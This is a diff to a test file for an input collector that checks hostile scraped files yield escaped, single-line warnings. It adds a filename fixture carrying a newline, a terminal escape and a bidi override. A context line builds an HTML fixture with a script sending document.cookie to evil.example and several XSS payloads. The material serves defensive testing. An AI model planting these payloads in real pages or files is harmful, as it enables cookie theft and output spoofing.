@@ -59,6 +59,7 @@ beforeAll(async () => {
   fs.symlinkSync("missing-target.txt", path.join(dir, "broken-link.txt"));
   deepTree(dir, MAX_DEPTH + 8);
   writeFile(dir, "french.txt", FRENCH_ARTICLE);
+  writeFile(dir, "evil\n\u001b[2Jname\u202e.txt", "");
   writeFile(dir, "scripts.html", `<html><head><script>fetch("https://evil.example/steal?c="+document.cookie)</script></head><body><article><h1>Embassy protest</h1><p>${GOOD_ARTICLE.split("\n")[2]}</p><script>alert("xss")</script><img src=x onerror="alert(2)"><p>Police kept the crowd away, <b>witnesses</b> said.</p></article><iframe src="javascript:alert(3)"></iframe></body></html>`);
 
   const collected = await collectInputs(["scraped"], { cwd: root, maxFileSize: MAX, fs: process.getuid?.() === 0 ? unprivileged : undefined });
@@ -86,9 +87,14 @@ describe("hostile inputs: one warning per problem, and the build goes on", () =>
     expect(warnings.length).toBeGreaterThan(10);
     for (const w of warnings) {
       expect(w.file).toMatch(/^scraped\//);
+      expect(w.file).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
       expect(w.reason).not.toMatch(/\n/);
       expect(w.reason.length).toBeLessThan(200);
     }
+  });
+
+  it("a file name with a newline, a terminal escape and a bidi override is printed escaped", () => {
+    expect(reasonsFor("evil\\u{a}\\u{1b}[2Jname\\u{202e}.txt")).toEqual(["skipped: empty file"]);
   });
 
   it("empty file", () => {
@@ -174,6 +180,6 @@ describe("hostile inputs: one warning per problem, and the build goes on", () =>
   it("the good inputs all became articles", () => {
     const read = [...results].filter(([, r]) => r.article).map(([id]) => id).sort();
     expect(read).toEqual(["cp1252.txt", "crlf.txt", "good.txt", "invalid-utf8.txt", "one-line.txt", "scripts.html", "utf16-be.txt", "utf16-le.txt"]);
-    expect(warnings.filter(isSkipped).length).toBe(10);
+    expect(warnings.filter(isSkipped).length).toBe(11);
   });
 });
